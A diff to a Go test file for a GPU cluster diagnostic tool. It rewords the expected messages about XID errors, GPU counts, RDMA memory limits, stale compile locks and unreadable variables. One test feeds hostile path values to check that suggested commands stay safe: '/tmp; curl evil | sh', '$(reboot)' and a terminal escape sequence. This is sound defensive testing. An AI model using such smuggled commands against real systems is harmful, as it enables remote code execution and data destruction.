@@ -109,8 +109,8 @@ func TestFailureReasons(t *testing.T) {
 		{`{"ok": 1}`, ""},
 		{`{"ok": null}`, "no answer"},
 		{`{}`, "no answer"},
-		{`{"hung": true}`, "no answer within 20s"},
-		{`{"ok": 1, "hung": true}`, "no answer within 20s"},
+		{`{"hung": true}`, "timed out after 20s"},
+		{`{"ok": 1, "hung": true}`, "timed out after 20s"},
 		{`{"error": "Permission denied"}`, "node reported: Permission denied"},
 	} {
 		var p part[int]
@@ -144,10 +144,10 @@ func TestXIDs(t *testing.T) {
 	}
 	got := r.said()
 	for _, want := range []string{
-		"n1 error: GPU 0000:07:00: XID 79, 2 times since the node was started",
-		"n1 error: GPU 0000:0f:00: XID 79, once since the node was started",
+		"n1 error: GPU 0000:07:00: XID 79, 2 times since boot",
+		"n1 error: GPU 0000:0f:00: XID 79, once since boot",
 		"n1 warning: GPU 0000:07:00: XID 13, once",
-		"n2 warning: the kernel's log is not readable: dsbuild did not check XID errors of the GPUs",
+		"n2 warning: cannot read the kernel log: XID errors of the GPUs were not checked",
 	} {
 		if !strings.Contains(got+"\n", want+"\n") {
 			t.Errorf("%q is missing in\n%s", want, got)
@@ -174,7 +174,7 @@ func TestCountDevices(t *testing.T) {
 		m.countDevices(counts, 5)
 	}
 	want := "n3 warning: 4 GPUs, but slots is only 2 in the inventory\n" +
-		"n4 warning: Slurm hides its GPUs from a job that requested none: dsbuild did not check them"
+		"n4 warning: GPUs not checked: Slurm hides them from jobs that request none"
 	if got := r.said(); got != want {
 		t.Errorf("got\n%s\nwant\n%s", got, want)
 	}
@@ -193,9 +193,9 @@ func TestLimitsAndLocks(t *testing.T) {
 		m.checkOperators(true)
 	}
 	want := strings.Join([]string{
-		"n1 warning: a process may lock only 64.0 KiB, and RDMA (mlx5_0) needs more",
-		"n1 warning: torch compiles operators in /home/u/ext, which is on fuse.sshfs: nodes wait for each other's locks there",
-		"n1 error: /home/u/ext/fused_adam/lock is a lock from 2h00m ago: programs that need this operator wait for it forever",
+		"n1 warning: locked memory is limited to 64.0 KiB, too little for RDMA (mlx5_0)",
+		"n1 warning: torch compiles ops in /home/u/ext, which is on fuse.sshfs, where nodes wait for each other's locks",
+		"n1 error: /home/u/ext/fused_adam/lock is a lock from 2h00m ago: programs that need this op wait for it forever",
 	}, "\n")
 	if got := r.said(); got != want {
 		t.Errorf("got\n%s\nwant\n%s", got, want)
@@ -242,7 +242,7 @@ func TestUnreadableVariables(t *testing.T) {
 	}
 	r.members[3].survey.Variables = part[map[string]string]{Error: "Input/output error"}
 	r.checkVariables(t.Context())
-	if got, want := r.said(), "n4 error: dsbuild could not read its variables: node reported: Input/output error"; got != want {
+	if got, want := r.said(), "n4 error: cannot read environment variables: node reported: Input/output error"; got != want {
 		t.Errorf("got %q, want %q", got, want)
 	}
 }
@@ -251,10 +251,10 @@ func TestUnreadableVariables(t *testing.T) {
 func TestRoomOfAHostilePath(t *testing.T) {
 	t.Parallel()
 	for _, c := range []struct{ path, try string }{
-		{"/scratch/tmp", "free space: df -h /scratch/tmp"},
-		{"/tmp; curl evil | sh", "free space: df -h FOLDER"},
-		{"$(reboot)", "free space: df -h FOLDER"},
-		{"/tmp\x1b[2J", "free space: df -h FOLDER"},
+		{"/scratch/tmp", "free disk space: df -h /scratch/tmp"},
+		{"/tmp; curl evil | sh", "free disk space: df -h FOLDER"},
+		{"$(reboot)", "free disk space: df -h FOLDER"},
+		{"/tmp\x1b[2J", "free disk space: df -h FOLDER"},
 	} {
 		m := ready(1).members[0]
 		m.judgeRoom(Disk, "TMPDIR", room{Path: c.path, Free: 1, Inodes: -1}, 1<<30)
